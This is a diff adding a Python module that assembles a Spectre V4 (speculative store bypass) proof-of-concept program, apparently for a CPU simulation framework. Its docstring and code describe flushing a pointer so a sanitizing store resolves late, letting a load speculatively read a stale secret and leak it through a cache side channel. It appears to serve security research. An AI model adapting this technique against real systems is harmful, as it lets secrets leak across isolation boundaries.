@@ -1,0 +1,62 @@
+"""Spectre V4 (speculative store bypass) proof of concept.
+
+The victim sanitizes a secret location through a pointer whose value is
+a delinquent load (flushed), so the sanitizing store's address stays
+unknown for ~DRAM latency.  The following load to the same location
+issues speculatively past the store (memory-dependence speculation),
+reads the *stale secret*, and transmits it.  When the store's address
+resolves, the ordering violation squashes and re-executes the load -
+this time forwarding the sanitized value (candidate 0), which is why
+candidate 0 is excluded from decoding.
+"""
+from __future__ import annotations
+
+from typing import Optional
+
+from ..params import MachineParams
+from .common import (
+    AttackProgram,
+    default_channel,
+    default_machine,
+    emit_prewarm,
+    finish,
+    make_builder,
+)
+from .gadgets import emit_store_bypass_gadget
+from .layout import AttackLayout
+from .sidechannel import Channel
+
+_R_TMP = 24
+
+
+def build_spectre_v4(
+    channel: Optional[Channel] = None,
+    layout: Optional[AttackLayout] = None,
+    machine: Optional[MachineParams] = None,
+) -> AttackProgram:
+    """Assemble a Spectre V4 attack with the given receiver/layout."""
+    channel = default_channel(channel)
+    layout = layout if layout is not None else AttackLayout()
+    machine = default_machine(machine)
+    page_table = layout.build_page_table(
+        shared_probe=channel.requires_shared_probe
+    )
+    channel.prepare(layout, page_table, machine)
+
+    builder = make_builder(layout)
+    # The pointer variable p = &secret (the victim's sanitization
+    # target).  Reuses the fnptr slot of the layout.
+    builder.data_word(layout.fnptr_addr, layout.secret_addr)
+
+    emit_prewarm(builder, layout)
+    # Reset the channel, then flush the pointer so the store address
+    # resolves late.
+    channel.emit_reset(builder, layout)
+    builder.li(_R_TMP, layout.fnptr_addr)
+    builder.clflush(_R_TMP)
+    builder.fence()
+    emit_store_bypass_gadget(builder, layout, "main", layout.fnptr_addr)
+    return finish(
+        f"spectre-v4/{channel.name}", builder, layout, channel, page_table,
+        exclude=frozenset({0}),
+    )
